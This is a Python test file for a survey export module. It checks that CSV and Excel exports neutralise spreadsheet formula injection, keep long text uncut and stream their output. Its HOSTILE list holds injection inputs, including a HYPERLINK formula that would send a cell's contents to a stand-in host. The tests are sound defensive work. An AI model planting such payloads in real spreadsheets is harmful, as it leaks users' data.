"""Lines as files: nothing a spreadsheet would run, nothing cut, nothing held back until the end."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator

import openpyxl
import pytest

from feedback.surveys.exporting import NotExportable, files
from feedback.surveys.exporting.answers import Record
from feedback.surveys.question_types import Answered
from tests.surveys.samples import asked, questionnaire

DOCUMENT = questionnaire(asked("t", "longtext"), asked("n", "number"))
HOSTILE = [
    '=HYPERLINK("http://e?"&A1)',
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "a;=1",
    "\0x",
    "'x",
    "'=1",
]


def records(*texts: str, number: float = -2.0) -> list[Record]:
    answers = [{"id-t": Answered(text=text), "id-n": Answered(number=number)} for text in texts]
    return [Record(str(i), "w", "g", None, "es", None, None, one) for i, one in enumerate(answers)]


def rows(pieces: Iterator[bytes]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(b"".join(pieces).decode("utf-8-sig"), newline="")))


def test_texts_that_a_spreadsheet_would_run_are_guarded_and_numbers_stay_numbers() -> None:
    found = rows(files.csv_of(DOCUMENT, records(*HOSTILE)))
    for text, row in zip(HOSTILE, found, strict=True):
        runs = text.lstrip("'")[:1] in "=+-@\t\r\n\0＝"
        assert row["t"] == (f"'{text}" if runs else text)
        assert row["n"] == "-2"


def test_a_workbook_has_no_formula_and_keeps_every_text() -> None:
    made = files.xlsx_of(DOCUMENT, records(*HOSTILE[:4], "http://x.example"), "en")
    with zipfile.ZipFile(io.BytesIO(made)) as book:
        assert not any(b"<f>" in book.read(name) or b"hyperlink" in book.read(name) for name in book.namelist())
    sheet = openpyxl.load_workbook(io.BytesIO(made))["responses"]
    header = [cell.value for cell in sheet[1]]
    texts = [row[header.index("t")].value for row in sheet.iter_rows(min_row=2)]
    assert texts == [*HOSTILE[:4], "http://x.example"]
    assert {row[header.index("n")].value for row in sheet.iter_rows(min_row=2)} == {-2}


def test_a_text_too_long_for_a_cell_is_refused_and_never_cut() -> None:
    long = records("x" * 40_000)
    with pytest.raises(NotExportable):
        files.xlsx_of(DOCUMENT, long, "en")
    assert rows(files.csv_of(DOCUMENT, long))[0]["t"] == "x" * 40_000


def test_json_lines() -> None:
    lines = b"".join(files.jsonl_of(DOCUMENT, records("uno\ndos", "“tres” 😀"))).decode().splitlines()
    assert [json.loads(line)["answers"]["t"]["text"] for line in lines] == ["uno\ndos", "“tres” 😀"]


def test_the_first_piece_does_not_wait_for_the_last() -> None:
    taken = []

    def slow() -> Iterator[Record]:
        for one in records(*(["x" * 1000] * 500)):
            taken.append(one)
            yield one

    pieces = files.csv_of(DOCUMENT, slow())
    first = next(pieces)
    assert len(taken) == 1 and first.startswith("\ufeff".encode())
    assert max(len(piece) for piece in pieces) < 2 * files.PIECE


def test_the_codebook_is_a_file_too() -> None:
    found = rows(files.codebook_csv(DOCUMENT, "en"))
    assert [row["Column"] for row in found] == ["t", *["t.state"] * 4, "n", *["n.state"] * 4]
